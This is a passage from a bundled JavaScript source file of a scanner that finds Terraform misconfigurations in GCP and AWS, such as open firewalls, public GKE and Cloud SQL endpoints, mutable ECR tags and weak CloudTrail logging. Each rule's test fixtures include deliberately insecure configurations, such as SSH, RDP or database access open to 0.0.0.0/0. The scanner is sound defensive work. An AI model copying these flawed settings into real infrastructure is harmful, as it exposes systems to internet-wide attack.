    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["google_compute_firewall"],
    description: "An ingress rule admits `0.0.0.0/0` to port 22 (SSH) or 3389 (RDP). Internet-wide scanners find such ports within minutes and try stolen and common credentials against them; a single weak account or unpatched daemon gives a shell on the VM.",
    remediation: "Restrict `source_ranges` to known administration networks, or use Identity-Aware Proxy TCP forwarding (`35.235.240.0/20`) with OS Login instead of exposing the ports.",
    precision: "very-high",
    cwe: ["CWE-284"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["3.6", "3.7"] },
    tags: ["gcp", "firewall", "network-exposure", "ssh", "rdp"],
    references: [
      "https://cloud.google.com/firewall/docs/firewalls",
      "https://cloud.google.com/iap/docs/using-tcp-forwarding",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_firewall"
    ]
  },
  check(firewall, { report }) {
    const open = openFirewallIngress(firewall);
    const exposure = open && classifyExposure(open.ranges);
    if (!open || exposure?.kind !== "remote-admin") return;
    report({ at: open.at, message: `Firewall rule ${firewall.name} opens ${describePorts2(exposure.ports)} to the internet (${open.cidr})` });
  },
  examples: {
    valid: [
      {
        name: "SSH through IAP only",
        filename: "main.tf",
        code: `resource "google_compute_firewall" "ssh_iap" {
  name          = "allow-ssh-from-iap"
  network       = google_compute_network.main.id
  source_ranges = ["35.235.240.0/20"]

  allow {
    protocol = "tcp"
    ports    = ["22"]
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_firewall" "ssh" {
  name          = "allow-ssh"
  network       = google_compute_network.main.id
  source_ranges = ["0.0.0.0/0"]

  allow {
    protocol = "tcp"
    ports    = ["22", "3389"]
  }
}
`,
        errors: [{ line: 4, column: 20, messageIncludes: "22 (SSH), 3389 (RDP)" }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/gcp-gke-control-plane-open-to-internet.ts
var gcp_gke_control_plane_open_to_internet_default = defineRule({
  meta: {
    id: "gcp-gke-control-plane-open-to-internet",
    title: "GKE master authorized networks allow the whole internet (0.0.0.0/0)",
    severity: "high",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["google_container_cluster"],
    description: "A master authorized network of `0.0.0.0/0` defeats the feature: the Kubernetes API server accepts connections from anywhere, so stolen credentials and API server vulnerabilities are exploitable from the whole internet.",
    remediation: "List only the networks that administer the cluster (office ranges, CI runners, a bastion) in `master_authorized_networks_config`, or use a private endpoint.",
    precision: "very-high",
    cwe: ["CWE-284"],
    tags: ["gcp", "gke", "kubernetes", "network-exposure", "authorized-networks"],
    references: [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/authorized-networks",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#master_authorized_networks_config"
    ]
  },
  check(cluster, { report }) {
    asList(cluster.attributes.master_authorized_networks_config).forEach((config, configIndex) => {
      if (!isObject(config)) return;
      asList(config.cidr_blocks).forEach((block, index) => {
        if (isObject(block) && isInternetCidr(block.cidr_block)) {
          report({
            at: ["master_authorized_networks_config", configIndex, "cidr_blocks", index, "cidr_block"],
            message: `GKE cluster ${cluster.name} authorizes ${String(block.cidr_block)} to reach its control plane: the API server is open to the internet`
          });
        }
      });
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "ops" {
  name               = "ops"
  location           = "europe-west1"
  initial_node_count = 1

  master_authorized_networks_config {
    cidr_blocks {
      cidr_block   = "198.51.100.0/24"
      display_name = "office"
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "ops" {
  name               = "ops"
  location           = "europe-west1"
  initial_node_count = 1

  master_authorized_networks_config {
    cidr_blocks {
      cidr_block   = "0.0.0.0/0"
      display_name = "anywhere"
    }
  }
}
`,
        errors: [{ line: 8, column: 7 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/gcp-gke-master-authorized-networks-missing.ts
var gcp_gke_master_authorized_networks_missing_default = defineRule({
  meta: {
    id: "gcp-gke-master-authorized-networks-missing",
    title: "GKE control plane public endpoint without master authorized networks",
    severity: "medium",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["google_container_cluster"],
    description: "The cluster has a public control plane endpoint and no `master_authorized_networks_config`, so the Kubernetes API server is reachable from any IP address on the internet. Authentication still applies, but leaked credentials and API server vulnerabilities can be used from anywhere.",
    remediation: "Add `master_authorized_networks_config` listing the networks that administer the cluster, or enable the private endpoint (`enable_private_endpoint = true`).",
    precision: "high",
    cwe: ["CWE-284"],
    tags: ["gcp", "gke", "kubernetes", "network-exposure", "authorized-networks"],
    references: [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/authorized-networks",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#master_authorized_networks_config"
    ]
  },
  check(cluster, { report }) {
    const attributes = cluster.attributes;
    const authorized = attributes.master_authorized_networks_config;
    if (isUnknown(authorized) || asList(authorized).length > 0) return;
    if (isUnknown(attributes.private_cluster_config)) return;
    const privateEndpoint = firstBlock(attributes.private_cluster_config)?.enable_private_endpoint;
    if (privateEndpoint === true || isUnknown(privateEndpoint)) return;
    report({ message: `GKE cluster ${cluster.name} has no master authorized networks: its public API server endpoint is open to any IP address` });
  },
  examples: {
    valid: [
      {
        name: "private endpoint",
        filename: "main.tf",
        code: `resource "google_container_cluster" "ledger" {
  name               = "ledger"
  location           = "europe-west1"
  initial_node_count = 1

  private_cluster_config {
    enable_private_nodes    = true
    enable_private_endpoint = true
    master_ipv4_cidr_block  = "172.16.0.0/28"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "ledger" {
  name               = "ledger"
  location           = "europe-west1"
  initial_node_count = 1

  private_cluster_config {
    enable_private_nodes   = true
    master_ipv4_cidr_block = "172.16.0.0/28"
  }
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/gcp-gke-network-policy-disabled.ts
var gcp_gke_network_policy_disabled_default = defineRule({
  meta: {
    id: "gcp-gke-network-policy-disabled",
    title: "GKE cluster without network policy enforcement",
    severity: "low",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["google_container_cluster"],
    description: "Neither network policy enforcement (`network_policy { enabled = true }`) nor GKE Dataplane V2 is on, so Kubernetes NetworkPolicies are ignored and every pod can reach every other pod. One compromised workload can then talk to any service in the cluster.",
    remediation: 'Create the cluster with `datapath_provider = "ADVANCED_DATAPATH"` (Dataplane V2), or enable `network_policy { enabled = true, provider = "CALICO" }`, and add NetworkPolicies.',
    precision: "high",
    cwe: ["CWE-923"],
    tags: ["gcp", "gke", "kubernetes", "network-policy"],
    references: [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/network-policy",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#network_policy"
    ]
  },
  check(cluster, { report }) {
    const attributes = cluster.attributes;
    if (isAutopilot(cluster) || attributes.datapath_provider === "ADVANCED_DATAPATH" || isUnknown(attributes.datapath_provider)) return;
    if (isUnknown(attributes.network_policy)) return;
    const policy = firstBlock(attributes.network_policy);
    if (policy?.enabled === true || isUnknown(policy?.enabled)) return;
    const at = policy ? ["network_policy", 0, "enabled"] : void 0;
    report({ at, message: `GKE cluster ${cluster.name} does not enforce network policy: pod-to-pod traffic is not restricted` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "web" {
  name               = "web"
  location           = "europe-west1"
  initial_node_count = 1
  datapath_provider  = "ADVANCED_DATAPATH"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "web" {
  name               = "web"
  location           = "europe-west1"
  initial_node_count = 1

  network_policy {
    enabled = false
  }
}
`,
        errors: [{ line: 7, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/gcp-gke-private-nodes.ts
var gcp_gke_private_nodes_default = defineRule({
  meta: {
    id: "gcp-gke-private-nodes",
    title: "GKE cluster is not a private cluster (nodes have public IP addresses)",
    severity: "medium",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["google_container_cluster"],
    description: "Without `private_cluster_config { enable_private_nodes = true }` every node gets a public IP address. The kubelet and any NodePort or hostPort service are then only a firewall rule away from the internet.",
    remediation: "Create the cluster as a private cluster (`enable_private_nodes = true`) and give nodes outbound access through Cloud NAT.",
    precision: "high",
    cwe: ["CWE-668"],
    tags: ["gcp", "gke", "kubernetes", "private-cluster", "network-exposure"],
    references: [
      "https://cloud.google.com/kubernetes-engine/docs/concepts/private-cluster-concept",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#enable_private_nodes"
    ]
  },
  check(cluster, { report }) {
    const config = cluster.attributes.private_cluster_config;
    if (isUnknown(config)) return;
    const block = firstBlock(config);
    const privateNodes = block?.enable_private_nodes;
    if (privateNodes === true || isUnknown(privateNodes)) return;
    const at = block ? ["private_cluster_config", 0, "enable_private_nodes"] : void 0;
    report({ at, message: `GKE cluster ${cluster.name} is not a private cluster: its nodes have public IP addresses` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "payments" {
  name               = "payments"
  location           = "europe-west1"
  initial_node_count = 1

  private_cluster_config {
    enable_private_nodes    = true
    enable_private_endpoint = false
    master_ipv4_cidr_block  = "172.16.0.32/28"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "payments" {
  name               = "payments"
  location           = "europe-west1"
  initial_node_count = 1
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/gcp-sql-authorized-network-open.ts
var gcp_sql_authorized_network_open_default = defineRule({
  meta: {
    id: "gcp-sql-authorized-network-open",
    title: "Cloud SQL instance open to the internet (authorized network 0.0.0.0/0)",
    severity: "critical",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["google_sql_database_instance"],
    description: "An authorized network of `0.0.0.0/0` on an instance with a public IP lets any host on the internet connect to the database port. Only the database password then protects the data, against constant password spraying.",
    remediation: "Remove the `0.0.0.0/0` authorized network; connect through private IP (`private_network`, `ipv4_enabled = false`) or the Cloud SQL Auth Proxy, or list only specific client addresses.",
    precision: "very-high",
    cwe: ["CWE-284"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["6.5"] },
    tags: ["gcp", "cloud-sql", "network-exposure", "public-ip"],
    references: [
      "https://cloud.google.com/sql/docs/mysql/authorize-networks",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/sql_database_instance#authorized_networks"
    ]
  },
  check(instance, { report }) {
    const ip = sqlIpConfiguration(instance);
    if (typeof ip === "string" || ip.config.ipv4_enabled === false || isUnknown(ip.config.ipv4_enabled)) return;
    const open = openAuthorizedNetwork(ip.config);
    if (open < 0) return;
    report({ at: [...ip.at, "authorized_networks", open, "value"], message: `Cloud SQL instance ${instance.name} is open to the internet: authorized network 0.0.0.0/0 on its public IP` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_sql_database_instance" "billing" {
  name             = "billing-pg"
  database_version = "POSTGRES_15"
  region           = "europe-west1"

  settings {
    tier = "db-custom-2-7680"
    ip_configuration {
      ipv4_enabled = true
      ssl_mode     = "ENCRYPTED_ONLY"
      authorized_networks {
        name  = "office"
        value = "203.0.113.0/28"
      }
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_sql_database_instance" "billing" {
  name             = "billing-pg"
  database_version = "POSTGRES_15"
  region           = "europe-west1"

  settings {
    tier = "db-custom-2-7680"
    ip_configuration {
      ipv4_enabled = true
      ssl_mode     = "ENCRYPTED_ONLY"
      authorized_networks {
        name  = "anyone"
        value = "0.0.0.0/0"
      }
    }
  }
}
`,
        errors: [{ line: 13, column: 9 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/gcp-sql-public-ip.ts
var gcp_sql_public_ip_default = defineRule({
  meta: {
    id: "gcp-sql-public-ip",
    title: "Cloud SQL instance has a public IP address",
    severity: "medium",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["google_sql_database_instance"],
    description: "`ipv4_enabled` is true, or not set (it defaults to true), so the instance gets a public IP address. Authorized networks and the Auth Proxy still gate connections, but the database is one misconfigured authorized network away from the internet. (An instance already open to `0.0.0.0/0` is reported by the authorized-network rule instead.)",
    remediation: "Set `ipv4_enabled = false` with `private_network` pointing at your VPC, and connect over private IP or Private Service Connect.",
    precision: "high",
    cwe: ["CWE-668"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["6.6"] },
    tags: ["gcp", "cloud-sql", "network-exposure", "public-ip"],
    references: [
      "https://cloud.google.com/sql/docs/mysql/configure-private-ip",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/sql_database_instance#ipv4_enabled"
    ]
  },
  check(instance, { report }) {
    const ip = sqlIpConfiguration(instance);
    if (ip === "unknown") return;
    if (ip === "missing") {
      if (instance.attributes.master_instance_name !== void 0) return;
      report({ at: ["settings", 0], message: `Cloud SQL instance ${instance.name} has a public IP address (ipv4_enabled defaults to true)` });
      return;
    }
    const enabled = ip.config.ipv4_enabled;
    if (enabled === false || isUnknown(enabled) || openAuthorizedNetwork(ip.config) >= 0) return;
    if (enabled === true) report({ at: [...ip.at, "ipv4_enabled"], message: `Cloud SQL instance ${instance.name} has a public IP address (ipv4_enabled = true)` });
    else report({ at: ip.at, message: `Cloud SQL instance ${instance.name} has a public IP address (ipv4_enabled defaults to true)` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_sql_database_instance" "inventory" {
  name             = "inventory-mysql"
  database_version = "MYSQL_8_0"
  region           = "europe-west1"

  settings {
    tier = "db-n1-standard-2"
    ip_configuration {
      ipv4_enabled    = false
      private_network = google_compute_network.main.id
      ssl_mode        = "ENCRYPTED_ONLY"
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_sql_database_instance" "inventory" {
  name             = "inventory-mysql"
  database_version = "MYSQL_8_0"
  region           = "europe-west1"

  settings {
    tier = "db-n1-standard-2"
    ip_configuration {
      ipv4_enabled = true
      ssl_mode     = "ENCRYPTED_ONLY"
    }
  }
}
`,
        errors: [{ line: 9, column: 7 }]
      },
      {
        name: "no ip_configuration",
        filename: "main.tf",
        code: `resource "google_sql_database_instance" "inventory" {
  name             = "inventory-mysql"
  database_version = "MYSQL_8_0"
  region           = "europe-west1"

  settings {
    tier = "db-n1-standard-2"
  }
}
`,
        errors: [{ line: 6, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/supply-chain/aws-ecr-image-tags-mutable.ts
var aws_ecr_image_tags_mutable_default = defineRule({
  meta: {
    id: "aws-ecr-image-tags-mutable",
    title: "ECR repository allows mutable image tags",
    severity: "low",
    category: "supply-chain",
    platforms: ["terraform"],
    resourceTypes: ["aws_ecr_repository"],
    description: "Image tags in the repository are mutable (the default): pushing again under an existing tag such as `v1.4.2` silently replaces the image. Deployments that pull by tag can then run code that was never reviewed or scanned, and a compromised pipeline can swap a released image without a trace in the tag.",
    remediation: 'Set `image_tag_mutability = "IMMUTABLE"` (or `IMMUTABLE_WITH_EXCLUSION` for a `latest`-style tag you deliberately move), and deploy images by digest.',
    precision: "very-high",
    cwe: ["CWE-494"],
    tags: ["ecr", "container-image", "mutable-tags", "immutable-tags"],
    references: ["https://docs.aws.amazon.com/AmazonECR/latest/userguide/image-tag-mutability.html"]
  },
  check(repository, { report }) {
    const mutability = repository.attributes.image_tag_mutability;
    if (isUnknown(mutability)) return;
    if (isUnset(mutability)) {
      report({ message: `ECR repository ${repository.name} has mutable image tags (image_tag_mutability defaults to MUTABLE)` });
    } else if (mutability === "MUTABLE" || mutability === "MUTABLE_WITH_EXCLUSION") {
      report({ at: ["image_tag_mutability"], message: `ECR repository ${repository.name} has mutable image tags (image_tag_mutability = "${mutability}")` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_ecr_repository" "api" {
  name                 = "api"
  image_tag_mutability = "IMMUTABLE"
  image_scanning_configuration {
    scan_on_push = true
  }
}
`
      }
    ],
    invalid: [
      {
        name: "explicitly mutable",
        filename: "main.tf",
        code: `resource "aws_ecr_repository" "api" {
  name                 = "api"
  image_tag_mutability = "MUTABLE"
}
`,
        errors: [{ line: 3, column: 3 }]
      },
      {
        name: "default",
        filename: "main.tf",
        code: `resource "aws_ecr_repository" "api" {
  name = "api"
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/supply-chain/aws-ecr-scan-on-push-disabled.ts
var aws_ecr_scan_on_push_disabled_default = defineRule({
  meta: {
    id: "aws-ecr-scan-on-push-disabled",
    title: "ECR repository image scan on push not enabled",
    severity: "low",
    category: "supply-chain",
    platforms: ["terraform"],
    resourceTypes: ["aws_ecr_repository"],
    description: "Images pushed to the repository are not scanned for known vulnerabilities (`image_scanning_configuration.scan_on_push` is not true) and no registry-wide scanning configuration is declared. Images with known CVEs in their OS packages or libraries reach deployment unnoticed.",
    remediation: "Set `image_scanning_configuration { scan_on_push = true }`, or configure scanning for the whole registry with `aws_ecr_registry_scanning_configuration` (enhanced scanning with Amazon Inspector rescans continuously).",
    precision: "high",
    cwe: ["CWE-1104"],
    tags: ["ecr", "container-image", "scan-on-push", "vulnerability-scanning"],
    references: [
      "https://docs.aws.amazon.com/AmazonECR/latest/userguide/image-scanning.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/ecr_registry_scanning_configuration"
    ]
  },
  check(repository, { graph, report }) {
    const group = repository.id.slice(0, repository.id.indexOf("::"));
    if (graph.ofType("aws_ecr_registry_scanning_configuration").some((configuration2) => configuration2.id.startsWith(`${group}::`))) return;
    const configuration = repository.attributes.image_scanning_configuration;
    if (isUnknown(configuration)) return;
    const block = asList(configuration)[0];
    if (block === void 0) {
      report({ message: `ECR repository ${repository.name} does not scan images on push (no image_scanning_configuration)` });
      return;
    }
    if (!isObject(block) || isUnknown(block.scan_on_push) || isTrue(block.scan_on_push)) return;
    const base = isObject(configuration) ? ["image_scanning_configuration"] : ["image_scanning_configuration", 0];
    const at = block.scan_on_push === void 0 ? base : [...base, "scan_on_push"];
    report({ at, message: `ECR repository ${repository.name} does not scan images on push (scan_on_push is not true)` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_ecr_repository" "api" {
  name                 = "api"
  image_tag_mutability = "IMMUTABLE"
  image_scanning_configuration {
    scan_on_push = true
  }
}
`
      },
      {
        name: "registry-wide scanning",
        filename: "main.tf",
        code: `resource "aws_ecr_registry_scanning_configuration" "registry" {
  scan_type = "ENHANCED"
  rule {
    scan_frequency = "CONTINUOUS_SCAN"
    repository_filter {
      filter      = "*"
      filter_type = "WILDCARD"
    }
  }
}

resource "aws_ecr_repository" "api" {
  name = "api"
}
`
      }
    ],
    invalid: [
      {
        name: "turned off",
        filename: "main.tf",
        code: `resource "aws_ecr_repository" "api" {
  name = "api"
  image_scanning_configuration {
    scan_on_push = false
  }
}
`,
        errors: [{ line: 4, column: 5 }]
      },
      {
        name: "not configured",
        filename: "main.tf",
        code: `resource "aws_ecr_repository" "api" {
  name                 = "api"
  image_tag_mutability = "IMMUTABLE"
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/support/lambda-runtimes.ts
var DEPRECATED_LAMBDA_RUNTIMES = /* @__PURE__ */ new Set([
  "nodejs",
  "nodejs4.3",
  "nodejs4.3-edge",
  "nodejs6.10",
  "nodejs8.10",
  "nodejs10.x",
  "nodejs12.x",
  "nodejs14.x",
  "nodejs16.x",
  "nodejs18.x",
  "python2.7",
  "python3.6",
  "python3.7",
  "python3.8",
  "python3.9",
  "ruby2.5",
  "ruby2.7",
  "java8",
  "go1.x",
  "provided",
  "dotnetcore1.0",
  "dotnetcore2.0",
  "dotnetcore2.1",
  "dotnetcore3.1",
  "dotnet5.0",
  "dotnet6",
  "dotnet7"
]);
var SUCCESSORS = [
  [/^nodejs/, "nodejs22.x"],
  [/^python/, "python3.13"],
  [/^ruby/, "ruby3.4"],
  [/^java/, "java21"],
  [/^dotnet/, "a supported .NET runtime (dotnet10)"],
  [/^(go1\.x|provided)$/, "provided.al2023"]
];
function isDeprecatedLambdaRuntime(runtime) {
  return DEPRECATED_LAMBDA_RUNTIMES.has(runtime.trim().toLowerCase());
}
function successorRuntime(runtime) {
  return SUCCESSORS.find(([pattern]) => pattern.test(runtime.trim().toLowerCase()))?.[1];
}

// packages/rules/src/terraform/supply-chain/aws-lambda-deprecated-runtime.ts
var aws_lambda_deprecated_runtime_default = defineRule({
  meta: {
    id: "aws-lambda-deprecated-runtime",
    title: "Lambda function on a deprecated runtime",
    severity: "medium",
    category: "supply-chain",
    platforms: ["terraform"],
    resourceTypes: ["aws_lambda_function"],
    description: "AWS stops patching a Lambda runtime once its language version or operating system reaches end of life. The function keeps running on an interpreter and base image with known, unfixed vulnerabilities, and AWS later blocks updates to it, which makes an emergency fix slow.",
    remediation: "Move the function to a supported runtime of the same language (for example `nodejs22.x`, `python3.13`, `java21`, `provided.al2023`), test it, and update the `runtime` argument.",
    precision: "very-high",
    cwe: ["CWE-1104"],
    tags: ["aws", "lambda", "runtime", "deprecated", "end-of-life"],
    references: [
      "https://docs.aws.amazon.com/lambda/latest/dg/lambda-runtimes.html",
      "https://docs.aws.amazon.com/lambda/latest/dg/runtime-support-policy.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lambda_function#runtime"
    ]
  },
  check(lambda, { report }) {
    const runtime = lambda.attributes.runtime;
    if (typeof runtime !== "string" || !isDeprecatedLambdaRuntime(runtime)) return;
    const successor = successorRuntime(runtime);
    report({
      at: ["runtime"],
      message: `Lambda function ${lambda.name} uses the deprecated runtime ${runtime}, which no longer receives security patches${successor ? `; move to ${successor}` : ""}`
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_lambda_function" "thumbnails" {
  function_name = "thumbnails"
  role          = aws_iam_role.thumbnails.arn
  filename      = "thumbnails.zip"
  handler       = "index.handler"
  runtime       = "nodejs22.x"
}

resource "aws_lambda_function" "resizer" {
  function_name = "resizer"
  role          = aws_iam_role.resizer.arn
  package_type  = "Image"
  image_uri     = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/resizer@sha256:4a1c0e6b2f0e3b5d8c9a7e6f5d4c3b2a1908f7e6d5c4b3a291807f6e5d4c3b2a"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_lambda_function" "thumbnails" {
  function_name = "thumbnails"
  role          = aws_iam_role.thumbnails.arn
  filename      = "thumbnails.zip"
  handler       = "handler.main"
  runtime       = "python3.7"
}
`,
        errors: [{ line: 6, column: 3, messageIncludes: "deprecated runtime python3.7" }]
      }
    ]
  }
});

// packages/rules/src/terraform/logging/aws-api-gateway-stage-access-logs-missing.ts
var aws_api_gateway_stage_access_logs_missing_default = defineRule({
  meta: {
    id: "aws-api-gateway-stage-access-logs-missing",
    title: "API Gateway stage without access logging",
    severity: "low",
    category: "logging",
    platforms: ["terraform"],
    resourceTypes: ["aws_api_gateway_stage", "aws_apigatewayv2_stage"],
    description: "API Gateway writes no access logs unless a stage names a destination. Without them there is no per-request record of callers, source addresses, authorisers' decisions and errors, so abuse of a public API cannot be traced or alerted on.",
    remediation: "Add `access_log_settings { destination_arn = aws_cloudwatch_log_group.<name>.arn, format = jsonencode({ … }) }` to the stage (the account also needs a CloudWatch role for REST APIs).",
    precision: "high",
    cwe: ["CWE-778"],
    tags: ["aws", "api-gateway", "access-logs", "logging"],
    references: [
      "https://docs.aws.amazon.com/apigateway/latest/developerguide/set-up-logging.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/api_gateway_stage#access_log_settings",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/apigatewayv2_stage#access_log_settings"
    ]
  },
  check(stage, { report }) {
    const settings = blocksOf(stage.attributes, "access_log_settings");
    if (settings === void 0) return;
    const destination = settings[0]?.block.destination_arn;
    if (isUnknown(destination) || typeof destination === "string" && destination.trim() !== "") return;
    report({ message: `API Gateway stage ${stage.name} has no access logging: requests to it are not logged` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_api_gateway_stage" "prod" {
  rest_api_id   = aws_api_gateway_rest_api.orders.id
  deployment_id = aws_api_gateway_deployment.orders.id
  stage_name    = "prod"

  access_log_settings {
    destination_arn = aws_cloudwatch_log_group.orders_api.arn
    format          = jsonencode({ requestId = "$context.requestId", ip = "$context.identity.sourceIp", status = "$context.status" })
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_apigatewayv2_stage" "prod" {
  api_id      = aws_apigatewayv2_api.orders.id
  name        = "prod"
  auto_deploy = true
}
`,
        errors: [{ line: 1, column: 1, messageIncludes: "access logging" }]
      }
    ]
  }
});

// packages/rules/src/terraform/logging/aws-cloudtrail-log-file-validation-disabled.ts
var aws_cloudtrail_log_file_validation_disabled_default = defineRule({
  meta: {
    id: "aws-cloudtrail-log-file-validation-disabled",
    title: "CloudTrail log file integrity validation not enabled",
    severity: "low",
    category: "logging",
    platforms: ["terraform"],
    resourceTypes: ["aws_cloudtrail"],
    description: "Without log file validation CloudTrail writes no signed digest files, so nobody can prove that the audit logs in the bucket were not edited or deleted after delivery. An intruder with bucket access can cover their tracks undetected.",
    remediation: "Set `enable_log_file_validation = true` and check the digests with `aws cloudtrail validate-logs` during investigations.",
    precision: "very-high",
    cwe: ["CWE-354"],
    frameworks: { "CIS AWS 1.4.0": ["3.2"] },
    tags: ["aws", "cloudtrail", "audit", "logging", "integrity"],
    references: [
      "https://docs.aws.amazon.com/awscloudtrail/latest/userguide/cloudtrail-log-file-validation-intro.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudtrail#enable_log_file_validation"
    ]
  },
  check(trail, { report }) {
    const validation = trail.attributes.enable_log_file_validation;
    if (isUnknown(validation) || isTrue(validation)) return;
    if (isFalse(validation)) {
      report({ at: ["enable_log_file_validation"], message: `CloudTrail trail ${trail.name} has log file validation turned off: tampering with its audit logs cannot be detected` });
    } else if (isUnset(validation)) {
      report({ message: `CloudTrail trail ${trail.name} does not enable log file validation: tampering with its audit logs cannot be detected` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_cloudtrail" "account" {
  name                       = "account-trail"
  s3_bucket_name             = aws_s3_bucket.audit.id
  is_multi_region_trail      = true
  enable_log_file_validation = true
}
`
      }
    ],
    invalid: [
      {
        name: "not set",
        filename: "main.tf",
        code: `resource "aws_cloudtrail" "account" {
  name                  = "account-trail"
  s3_bucket_name        = aws_s3_bucket.audit.id
  is_multi_region_trail = true
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        name: "explicitly off",
        filename: "main.tf",
        code: `resource "aws_cloudtrail" "account" {
  name                       = "account-trail"
  s3_bucket_name             = aws_s3_bucket.audit.id
  is_multi_region_trail      = true
  enable_log_file_validation = false
}
`,
        errors: [{ line: 5, column: 3, messageIncludes: "log file validation" }]
      }
    ]
  }
});

// packages/rules/src/terraform/logging/aws-cloudtrail-not-multi-region.ts
var aws_cloudtrail_not_multi_region_default = defineRule({
  meta: {
    id: "aws-cloudtrail-not-multi-region",
    title: "CloudTrail trail records only its home region",
    severity: "medium",
    category: "logging",
    platforms: ["terraform"],
    resourceTypes: ["aws_cloudtrail"],
    description: "A single-region trail logs API calls made in one region only. An attacker who launches instances, creates keys or changes IAM-adjacent settings in another region leaves no trail entry, and regions nobody uses are exactly where such activity goes unnoticed.",
    remediation: "Set `is_multi_region_trail = true` (and keep `include_global_service_events = true`) so the trail records every region, including ones enabled later.",
    precision: "high",
    cwe: ["CWE-778"],
    frameworks: { "CIS AWS 1.4.0": ["3.1"] },
    tags: ["aws", "cloudtrail", "audit", "logging"],
    references: [
      "https://docs.aws.amazon.com/awscloudtrail/latest/userguide/receive-cloudtrail-log-files-from-multiple-regions.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudtrail#is_multi_region_trail"
    ]
  },
  check(trail, { report }) {
    const multiRegion = trail.attributes.is_multi_region_trail;
    if (isUnknown(multiRegion) || isTrue(multiRegion)) return;
    if (isFalse(multiRegion)) {
      report({ at: ["is_multi_region_trail"], message: `CloudTrail trail ${trail.name} logs only its home region (is_multi_region_trail = false): activity in other regions is not audited` });
    } else if (isUnset(multiRegion)) {
      report({ message: `CloudTrail trail ${trail.name} logs only its home region: is_multi_region_trail is not set, so activity in other regions is not audited` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_cloudtrail" "account" {
  name                          = "account-trail"
  s3_bucket_name                = aws_s3_bucket.audit.id
  is_multi_region_trail         = true
  include_global_service_events = true
  enable_log_file_validation    = true
}
`
      }
    ],
    invalid: [
      {
        name: "not set",
        filename: "main.tf",
        code: `resource "aws_cloudtrail" "account" {
  name                       = "account-trail"
  s3_bucket_name             = aws_s3_bucket.audit.id
  enable_log_file_validation = true
}
`,
        errors: [{ line: 1, column: 1, messageIncludes: "audited" }]
      },
      {
        name: "explicitly single-region",
        filename: "main.tf",
        code: `resource "aws_cloudtrail" "account" {
  name                  = "account-trail"
  s3_bucket_name        = aws_s3_bucket.audit.id
  is_multi_region_trail = false
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/logging/aws-eks-control-plane-logging-incomplete.ts
var REQUIRED_LOG_TYPES = ["api", "audit"];
